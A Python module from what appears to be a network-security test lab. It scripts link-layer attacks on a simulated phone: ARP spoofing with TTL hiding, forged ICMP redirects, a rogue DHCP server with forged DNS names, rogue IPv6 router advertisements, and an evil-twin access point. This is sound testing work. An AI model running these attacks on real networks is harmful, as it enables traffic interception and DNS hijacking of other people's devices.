"""Attacks on the link: ARP, ICMP redirects, DHCP, router advertisements, and a twin of the access point."""

import contextlib
import signal

from .. import addresses as at
from .. import phone, services
from ..network import Lab
from ..places import Place
from . import filtered, verb


@verb("attacker")
def arp_spoof(lab: Lab, place: Place, *, hide_ttl: bool = False):
    """Puts the attacker between phone and gateway with arpspoof; the kernel forwards.

    --hide-ttl makes up for the hop that forwarding takes.
    """
    hidden = (
        filtered(place, "-t mangle PREROUTING -i wlan0 -j TTL --ttl-inc 1 -s 0.0.0.0/0")
        if hide_ttl
        else contextlib.nullcontext()
    )
    with (
        hidden,
        place.start("arpspoof", "arpspoof", "-i", "wlan0", "-r", "-t", at.PHONE, at.GATEWAY) as daemon,
    ):
        daemon.wait_until(
            lambda: at.ATTACKER_MAC in neighbour(lab, at.GATEWAY), "the phone's changed neighbour"
        )
        yield
        daemon.send(
            signal.SIGTERM
        )  # it tells the neighbours the truth again, for ten seconds; the first word is enough
        daemon.wait_until(lambda: at.GATEWAY_MAC in neighbour(lab, at.GATEWAY), "the phone's true neighbour")
        daemon.send(signal.SIGKILL)


@verb("attacker")
def icmp_redirect(lab: Lab, place: Place, *, to: str = "a.canary.test,b.canary.test,c.canary.test"):
    """Tells the phone in the gateway's name (ICMP redirect, hping3) to reach hosts through the attacker."""
    with contextlib.ExitStack() as stack:
        for host in to.split(","):
            forged = ["--icmp", "--icmptype", 5, "--icmpcode", 1, "-a", at.GATEWAY, "--icmp-gw", at.ATTACKER]
            about = ["--icmp-ipsrc", at.PHONE, "--icmp-ipdst", at.address_of(host).v4, "--icmp-ipproto", 1]
            stack.enter_context(place.start(f"redirect-{host}", "hping3", *forged, *about, at.PHONE))
        lab.settle()
        yield
    lab.phone.run("ip route flush cache")  # a real one forgets in five minutes


@verb("attacker")
def rogue_dhcp(lab: Lab, place: Place, *, forge: str = ""):
    """Silences the honest DHCP server and gives the phone the attacker as DNS server.

    That forges the names of --forge (comma between)."""
    lines = services.lan_lines(lab, "attacker") + [
        f"server={at.DNS.v4}",
        f"dhcp-option=3,{at.GATEWAY}",
        f"dhcp-option=6,{at.ATTACKER}",
    ]
    lines += [f"address=/{name}/{at.ATTACKER}" for name in forge.split(",") if name]
    file = lab.write("rogue-dhcp.conf", "\n".join(lines).replace("interface=lan0", "interface=wlan0") + "\n")
    starved = filtered(lab.gateway, "INPUT -i lan0 -p udp --dport 67 -j DROP")
    with starved, place.start("rogue-dhcp", "dnsmasq", "-C", file, udp=67):
        phone.reconnect(lab)
        yield
    phone.reconnect(lab)


@verb("attacker")
def rogue_router(lab: Lab, place: Place):
    """Advertises the attacker as an IPv6 router of high preference, with radvd."""
    config = "interface wlan0 { AdvSendAdvert on; AdvDefaultPreference high;"
    config += " MinRtrAdvInterval 3; MaxRtrAdvInterval 4; prefix fd77::/64 {}; RDNSS fd77::66 {}; };"
    file = lab.write("radvd.conf", config + "\n")
    with place.start(
        "radvd", "radvd", "-C", file, "-n", "-m", "stderr", "-p", lab.path("radvd.pid")
    ) as daemon:
        daemon.wait_until(
            lambda: "pref high" in lab.phone.run("ip -6 route show default").stdout,
            "the rogue router at the phone",
        )
        yield  # radvd withdraws its route as it ends


@verb("attacker")
def evil_twin(lab: Lab, place: Place):
    """An access point with the home's addresses and another way out; the phone joins it, then goes home."""
    twin = lab.twin
    twin.create(nameserver=at.DNS.v4)
    lab.switch.ip("link add br-twin type bridge", "link set br-twin up")
    lab.plug(twin, "lan0", "br-twin", at.TWIN_MAC)
    lab.plug(twin, "wan0", "br-wan")
    twin.ip(
        "link set lo up",
        f"addr add {at.GATEWAY}/24 dev lan0",
        f"addr add {at.TWIN_EXIT}/28 dev wan0",
        f"route add default via {at.TWIN_UPLINK}",
    )
    twin.sysctl(ipv4__ip_forward=1)
    twin.run("iptables", "-t", "nat", "-A", "POSTROUTING", "-o", "wan0", "-j", "MASQUERADE")
    file = lab.write(
        "twin-dns.conf", "\n".join([*services.lan_lines(lab, "twin"), f"server={at.DNS.v4}"]) + "\n"
    )
    with twin.start("dns", "dnsmasq", "-C", file, udp=67):
        roam(lab, "br-twin", ipv6=False)
        yield
        roam(lab, "br0")
    twin.destroy()
    lab.switch.ip("link del br-twin")


@verb("gateway")
def mesh_roam(lab: Lab, place: Place):
    """A second access point of the same network, to which the phone moves, and later back."""
    lab.switch.ip(
        "link add br-mesh type bridge",
        "link set br-mesh up",
        "link add backhaul0 type veth peer name backhaul1",
        "link set backhaul0 master br0 up",
        "link set backhaul1 master br-mesh up",
    )
    roam(lab, "br-mesh")
    yield
    roam(lab, "br0")


def roam(lab: Lab, bridge: str, **families: bool) -> None:
    phone.disconnect(lab)
    phone.move(lab, bridge)
    phone.connect(lab, **families)


def neighbour(lab: Lab, address: str) -> str:
    """The phone's entry for a neighbour, made by a ping when it has none."""
    lab.phone.run("ping", "-c1", "-W1", address, check=False)
    return lab.phone.run("ip", "neigh", "show", address).stdout
